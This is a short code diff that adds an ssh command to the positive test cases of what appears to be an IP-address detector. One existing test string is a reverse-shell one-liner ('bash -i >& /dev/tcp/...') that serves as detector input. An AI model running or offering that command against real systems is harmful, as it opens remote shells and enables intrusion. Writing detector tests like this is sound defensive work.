@@ -2,6 +2,7 @@ import type { DetectorCases } from '../../detector-cases.ts';
 
 export const cases: DetectorCases = {
   positive: [
+    'ssh deploy@«10.20.30.40» -p 2222',
     '<ip>«84.17.52.190»</ip>',
     'if (ip == "«84.17.52.190»")',
     'bash -i >& /dev/tcp/«84.17.52.190»/4242',
